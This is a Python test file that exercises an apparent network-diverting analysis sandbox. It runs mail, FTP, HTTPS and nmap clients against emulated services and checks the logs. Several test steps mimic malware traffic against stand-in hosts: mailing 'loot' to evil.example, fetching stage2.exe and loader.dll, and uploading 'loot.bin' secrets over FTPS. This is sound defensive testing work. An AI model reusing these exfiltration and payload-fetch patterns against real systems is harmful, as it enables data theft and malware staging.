"""Mail and file transfer end to end: real clients in `nftdivert sandbox`, over TLS upgrades and implicit TLS.

One sandbox runs every client, one after another; each test then checks
what its client got and what the log says. The listener's answers do not
depend on the queue backend: any_backend.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess

import pytest

import harness
from conftest import REPO, nftdivert_argv
from nftdivert.services import payloads

pytestmark = [pytest.mark.kernel, pytest.mark.any_backend]

NMAP_ADDRESS = "198.51.100.30"
EARLY_ADDRESS = "198.51.100.31"
FTP4_ADDRESS = "198.51.100.32"
NMAP_PORTS = {21: "ftp", 22: "ssh", 25: "smtp", 110: "pop3", 143: "imap", 993: "imap", 995: "pop3"}

# The Python clients, one after another; each records its own error instead of stopping the others.
CLIENTS = r"""
import ftplib, imaplib, io, json, poplib, smtplib, socket, ssl, time
out = {}
ctx = ssl.create_default_context()  # the sandbox trusts the CA

def run(name, step):
    try:
        out[name] = step()
    except Exception as exc:
        out[name] = "error: " + repr(exc)

def smtp_starttls():
    with smtplib.SMTP("st.example", 25, timeout=15) as s:
        s.starttls(context=ctx)
        s.login("stuser", "st pw")
        s.sendmail("st@victim.example", ["x@evil.example"], b"Subject: starttls\r\n\r\nhi\r\n")
    return "sent"

def smtp_ssl():
    with smtplib.SMTP_SSL("smtps.example", 465, timeout=15, context=ctx) as s:
        s.sendmail("ssl@victim.example", ["x@evil.example"], b"Subject: implicit\r\n\r\nhi\r\n")
    return "sent"

def pop3(p, user, stls=False):
    if stls:
        p.stls(context=ctx)
    p.user(user)
    p.pass_("pop pw")
    message = b"\n".join(p.retr(1)[1]).decode()
    p.quit()
    return message

def imap(m, user, starttls=False):
    if starttls:
        m.starttls(ssl_context=ctx)
    m.login(user, "imap pw")
    m.select("INBOX")
    message = m.fetch("1", "(RFC822)")[1][0][1].decode()
    m.logout()
    return message

def ftp_active(host, user):
    f = ftplib.FTP(host, timeout=15)
    f.login(user, "ftp pw")
    f.set_pasv(False)
    conn = f.transfercmd("RETR /pub/stage2.exe")
    came_from = conn.getpeername()[0]
    data = b""
    while chunk := conn.recv(65536):
        data += chunk
    conn.close()
    f.voidresp()
    open(user + ".exe", "wb").write(data)
    asked = f.sock.getpeername()[0]
    f.quit()
    return [came_from, asked]

def ftp_passive():
    f = ftplib.FTP("ftp.example", timeout=15)
    f.login("passiveuser", "ftp pw")
    got = io.BytesIO()
    f.retrbinary("RETR tools/next.exe", got.write)
    open("passive.exe", "wb").write(got.getvalue())
    names = f.nlst()
    f.quit()
    return names

def ftp_tls():
    f = ftplib.FTP_TLS("ftps.example", timeout=15, context=ctx)
    f.login("tlsuser", "tls pw")  # AUTH TLS first
    f.prot_p()
    got = io.BytesIO()
    f.retrbinary("RETR loader.dll", got.write)
    open("tls.dll", "wb").write(got.getvalue())
    f.storbinary("STOR loot.bin", io.BytesIO(b"secret over tls" * 100))
    f.quit()
    return "done"

def early(port, data, marker):
    with socket.create_connection(("EARLY", port), timeout=10) as s:
        s.sendall(data)
        got = b""
        while marker not in got:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
    return got.decode("latin-1")

run("smtp_starttls", smtp_starttls)
run("smtp_ssl", smtp_ssl)
run("pop3_stls", lambda: pop3(poplib.POP3("pop.example", 110, timeout=15), "stlsuser", stls=True))
run("pop3_ssl", lambda: pop3(poplib.POP3_SSL("pops.example", 995, timeout=15, context=ctx), "ssluser"))
run("imap_starttls", lambda: imap(imaplib.IMAP4("imap.example", 143, timeout=15), "starttlsuser", starttls=True))
run("imap_ssl", lambda: imap(imaplib.IMAP4_SSL("imaps.example", 993, timeout=15, ssl_context=ctx), "ssluser"))
run("ftp_active", lambda: ftp_active("ftp.example", "activeuser"))  # IPv6 first: EPRT
run("ftp_active4", lambda: ftp_active("FTP4", "active4user"))  # PORT
run("ftp_passive", ftp_passive)
run("ftp_tls", ftp_tls)
def greeted_in(port):
    started = time.monotonic()
    with socket.create_connection(("EARLY", port), timeout=10) as s:
        s.recv(100)
        return time.monotonic() - started

run("greeted_in", lambda: max(greeted_in(port) for port in (21, 25, 110, 143)))
run("early_25", lambda: early(25, b"EHLO fast\r\n", b"250 "))
run("early_21", lambda: early(21, b"USER x\r\n", b"331 "))
run("early_110", lambda: early(110, b"USER x\r\n", b"\r\n+OK\r\n"))
run("early_143", lambda: early(143, b"a1 CAPABILITY\r\n", b"a1 OK"))
json.dump(out, open("clients.json", "w"))
"""

# $D is the work directory; every client's result lands there.
SCRIPT = r"""
cd "$D"
swaks --tls --server swaks.example --port 587 --auth LOGIN --auth-user swaksuser --auth-password 'swaks pw' --from a@victim.example --to drop@evil.example --header 'Subject: swaks loot' >swaks.out 2>swaks.err; echo $? >swaks.rc
python3 clients.py
curl -sS --max-time 20 -u implicituser:implicit-pw -o implicit.exe ftps://ftps990.example/pub/tool.exe; echo $? >ftps990.rc
curl -sS --max-time 20 -o https.txt -w '%{local_port}' https://end.example/x.txt >https.port; echo $? >https.rc
date +%s.%N >nmap.started
nmap -Pn -n -sV -p PORTS -oG nmap.txt NMAP >nmap.out 2>nmap.err; echo $? >nmap.rc
date +%s.%N >nmap.finished
"""
CLIENTS = CLIENTS.replace("EARLY", EARLY_ADDRESS).replace("FTP4", FTP4_ADDRESS)
SCRIPT = SCRIPT.replace("NMAP", NMAP_ADDRESS).replace("PORTS", ",".join(map(str, NMAP_PORTS)))


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    work = tmp_path_factory.mktemp("mail")
    os.chmod(work, 0o755)
    (work / "clients.py").write_text(CLIENTS)
    config = work / "sandbox.toml"
    config.write_text(harness.DIVERT_PATH_LINE + f'[queue]\nbackend = "{harness.BACKEND}"\n[tls]\nstate_dir = "{work / "state"}"\n'
                      f'[server_first]\nmail_dir = "{work / "mail"}"\nuploads_dir = "{work / "uploads"}"\n')
    env = dict(os.environ, PYTHONPATH=str(REPO), D=str(work))
    env.pop("SUDO_UID", None)
    proc = subprocess.run(nftdivert_argv("sandbox", "-c", str(config), "--timeout", "150", "--", "sh", "-c", SCRIPT),
                          capture_output=True, text=True, env=env, timeout=200)
    assert proc.returncode == 0, proc.stderr
    records = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    return work, records, json.loads((work / "clients.json").read_text())


def events(records, event: str, **match) -> list[dict]:
    return [r for r in records if r.get("event") == event and all(r.get(k) == v for k, v in match.items())]


def one(records, event: str, port: int, name: str, **match) -> dict:
    """The record of `event` matching, logged with the port asked for and the name it was asked by."""
    found = events(records, event, **match)
    assert found, f"no {event} {match}: {records}"
    assert found[0]["original_destination"].endswith(f":{port}") and found[0]["name"] == name, found[0]
    return found[0]


def tls_of(records, client: str) -> dict:
    (hello,) = [r for r in records if r.get("event") == "tls" and r["client"] == client]
    assert hello["result"] == "ok", hello
    return hello


def test_swaks_starttls_on_587_sends_its_mail_with_auth_logged(run):
    work, records, _ = run
    assert (work / "swaks.rc").read_text().strip() == "0", (work / "swaks.out").read_text()
    assert "STARTTLS" in (work / "swaks.out").read_text()
    auth = one(records, "smtp_auth", 587, "swaks.example", user="swaksuser")
    assert auth["password"] == "swaks pw" and tls_of(records, auth["client"])["starttls"] is True
    mail = one(records, "smtp", 587, "swaks.example", mail_from="a@victim.example")
    assert ["Subject", "swaks loot"] in mail["headers"]


def test_smtplib_starttls_and_smtp_ssl(run):
    _, records, clients = run
    assert clients["smtp_starttls"] == "sent" and clients["smtp_ssl"] == "sent", clients
    auth = one(records, "smtp_auth", 25, "st.example", user="stuser")
    assert auth["password"] == "st pw" and tls_of(records, auth["client"])["starttls"] is True
    mail = one(records, "smtp", 465, "smtps.example", mail_from="ssl@victim.example")
    assert "starttls" not in tls_of(records, mail["client"])


@pytest.mark.parametrize("step, event, port, name, user", [
    ("pop3_stls", "pop3", 110, "pop.example", "stlsuser"), ("pop3_ssl", "pop3", 995, "pops.example", "ssluser"),
    ("imap_starttls", "imap", 143, "imap.example", "starttlsuser"), ("imap_ssl", "imap", 993, "imaps.example", "ssluser"),
])
def test_poplib_and_imaplib_read_message_1_over_an_upgrade_and_implicit_tls(run, step, event, port, name, user):
    _, records, clients = run
    assert "Subject: Welcome" in clients[step], clients[step]
    login = one(records, event, port, name, user=user)
    assert login["password"] == f"{event if event == 'imap' else 'pop'} pw"
    assert tls_of(records, login["client"]).get("starttls", False) == (port in (110, 143))


def is_pe(data: bytes) -> bool:
    return data == payloads.by_extension("exe")[1] and data[:2] == b"MZ"


@pytest.mark.parametrize("step, user", [("ftp_active", "activeuser"), ("ftp_active4", "active4user")])
def test_ftp_active_mode_connects_from_the_address_asked_for_and_serves_a_pe(run, step, user):
    work, records, clients = run
    came_from, asked = clients[step]
    assert came_from == asked, clients[step]  # not the diverter's own address
    assert is_pe((work / f"{user}.exe").read_bytes())
    (login,) = events(records, "ftp", user=user)
    assert login["original_destination"] == (f"[{asked}]:21" if ":" in asked else f"{asked}:21"), login
    assert len(events(records, "ftp_download", name="/pub/stage2.exe")) == 2


def test_ftp_passive_mode_serves_a_pe_and_lists_a_tree(run):
    work, records, clients = run
    assert is_pe((work / "passive.exe").read_bytes())
    assert "update.exe" in clients["ftp_passive"] and "pub" in clients["ftp_passive"], clients["ftp_passive"]
    one(records, "ftp", 21, "ftp.example", user="passiveuser")


def test_ftp_tls_with_prot_p_retrieves_and_uploads_over_tls(run):
    work, records, clients = run
    assert clients["ftp_tls"] == "done", clients["ftp_tls"]
    assert (work / "tls.dll").read_bytes() == payloads.by_extension("dll")[1]
    login = one(records, "ftp", 21, "ftps.example", user="tlsuser")
    assert login["password"] == "tls pw" and tls_of(records, login["client"])["starttls"] is True
    (up,) = events(records, "ftp_upload", name="loot.bin")
    assert up["sha256"] == hashlib.sha256(b"secret over tls" * 100).hexdigest()
    data = [r for r in records if r.get("event") == "tls" and r.get("ftp_data")
            and r["original_destination"] == login["original_destination"]]
    assert len(data) == 2 and all(r["result"] == "ok" for r in data), data


def test_curl_over_implicit_tls_on_990_retrieves_a_pe_over_protected_data(run):
    work, records, _ = run
    assert (work / "ftps990.rc").read_text().strip() == "0" and is_pe((work / "implicit.exe").read_bytes())
    login = one(records, "ftp", 990, "ftps990.example", user="implicituser")
    assert "starttls" not in tls_of(records, login["client"])
    data = [r for r in records if r.get("event") == "tls" and r.get("ftp_data")
            and r["original_destination"] == login["original_destination"]]
    assert data and data[0]["result"] == "ok", data


@pytest.mark.parametrize("port, says, answer", [
    (25, "early_25", r"^220 .*ESMTP.*\r\n250-"),
    (21, "early_21", r"^220 .*FTPd.*\r\n331 "),
    (110, "early_110", r"^\+OK Dovecot.*\r\n\+OK\r\n"),
    (143, "early_143", r"^\* OK Dovecot.*\r\n\* CAPABILITY IMAP4rev1 .*\r\na1 OK"),
])
def test_a_client_that_talks_first_on_a_server_first_port_gets_the_protocol(run, port, says, answer):
    _, _, clients = run
    assert re.search(answer, clients[says], re.S), clients[says]


def test_a_silent_client_is_greeted_well_within_a_second(run):
    _, _, clients = run
    assert clients["greeted_in"] < 0.9, clients["greeted_in"]  # [recognize] wait is 0.2 s; it was 1 s


def test_https_ends_closed_not_reset(run):
    work, records, _ = run
    assert (work / "https.rc").read_text().strip() == "0" and (work / "https.txt").read_bytes() == b"ok\n"
    port = (work / "https.port").read_text()
    ends = [r for r in records if r.get("event") == "end" and r["client"].endswith(f":{port}")]
    assert ends and ends[0]["ended"] == "closed" and ends[0]["name"] == "end.example", ends


def test_nmap_names_every_service_within_seconds(run):
    work, _, _ = run
    out = (work / "nmap.txt").read_text()
    found = dict(re.findall(r"(\d+)/open/tcp//([^/]*)/", out))
    expected = {str(port): name for port, name in NMAP_PORTS.items()}
    for port in ("993", "995"):  # inside TLS: nmap says ssl/imap, or imaps
        found[port] = re.sub(r"^(ssl\|)?(imap|pop3)s?$", r"\2", found.get(port, ""))
    assert found == expected, (work / "nmap.out").read_text()
    took = float((work / "nmap.finished").read_text()) - float((work / "nmap.started").read_text())
    assert took < 20, f"nmap -sV took {took:.1f} s"
